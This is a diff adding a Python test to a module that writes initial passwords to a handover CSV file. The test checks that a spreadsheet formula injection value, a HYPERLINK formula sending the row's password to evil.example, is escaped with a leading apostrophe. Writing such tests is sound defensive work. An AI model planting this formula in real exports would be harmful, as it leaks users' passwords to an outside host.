@@ -36,6 +36,15 @@ def test_without_a_good_one_a_password_is_random(wanted: str) -> None:
     passwords.close()
 
 
+def test_no_account_or_name_is_a_formula_beside_a_password(tmp_path: Path) -> None:
+    """A name that would send the password of its line elsewhere as a formula is a text for a spreadsheet."""
+    passwords = InitialPasswords(tmp_path / "handover.csv", lambda: "2026-11-24")
+    passwords.initial("=a", '=HYPERLINK("http://evil.example/?"&C1)', "wanted")
+    passwords.close()
+    (row,) = csv.reader((tmp_path / "handover.csv").read_text(encoding="utf-8").splitlines())
+    assert row == ["'=a", '\'=HYPERLINK("http://evil.example/?"&C1)', "wanted", "2026-11-24"]
+
+
 def test_the_file_is_for_its_owner_alone(tmp_path: Path) -> None:
     """The handover file is for its owner alone, also where it was readable for all before."""
     (tmp_path / "handover.csv").touch(0o644)
